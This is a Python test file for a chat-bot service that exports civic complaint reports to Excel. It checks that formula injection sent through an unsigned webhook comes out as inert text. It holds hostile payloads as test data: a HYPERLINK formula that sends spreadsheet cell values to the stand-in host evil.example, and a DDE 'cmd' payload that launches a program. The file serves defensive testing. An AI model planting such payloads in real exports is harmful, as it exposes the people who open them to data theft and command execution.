"""Issue 14 finding 4: a chat message cannot plant a live formula in the ledger spreadsheets.

The attacker posts through the (unsigned) generic webhook with a group id, a name and a text
that are formulas; the 创城办 later opens /ledger.xlsx or /api/export.xlsx. No text cell of
either workbook may be a formula, or start like one.
"""

from __future__ import annotations

import io
from collections.abc import Iterator

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from bot.app_services import AppServices
from bot.reports.safe_cells import FORMULA_STARTS, inert_text
from tests.support.web_helpers import login, make_user

HYPERLINK = '=HYPERLINK("http://evil.example/?"&H2&H3,"详情")'
PAYLOADS = {
    "group_id": HYPERLINK,
    "sender_name": "+cmd|' /C calc'!A0",
    "text": "-2+3 府前街与南环路交叉口西北角垃圾堆了两天了 @SUM(1+1)",
}


def plant(client: TestClient) -> None:
    body = {"msg_id": "atk-x", "sender_id": "wgy_li", **PAYLOADS}
    assert client.post("/webhook/generic", json=body).json()["tickets"] == [1]


def text_cells(xlsx: bytes) -> Iterator[tuple[str, str]]:
    workbook = load_workbook(io.BytesIO(xlsx))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield cell.data_type, str(cell.value)


def assert_inert(xlsx: bytes) -> None:
    cells = list(text_cells(xlsx))
    assert cells, "the workbook is empty"
    assert all(kind != "f" for kind, _ in cells), "a formula cell"
    assert not [value for _, value in cells if value.startswith(FORMULA_STARTS)]
    values = {value for _, value in cells}
    assert "'" + HYPERLINK in values  # shown, as typed, after the quote that keeps it text


def test_api_export_has_no_live_formula(client: TestClient) -> None:
    plant(client)
    assert_inert(client.get("/api/export.xlsx").content)


def test_web_ledger_export_has_no_live_formula(client: TestClient, services: AppServices) -> None:
    plant(client)
    make_user(services, "wang", "supervisor")
    login(client, "wang")
    response = client.get("/ledger.xlsx")
    assert response.status_code == 200
    assert_inert(response.content)


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-", "'-"),
        ("@all", "'@all"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝SUM(A1)", "'＝SUM(A1)"),
        (" =1", "' =1"),
        ("府前街 = 垃圾", "府前街 = 垃圾"),
        ("", ""),
    ],
)
def test_inert_text(typed: str, written: str) -> None:
    assert inert_text(typed) == written
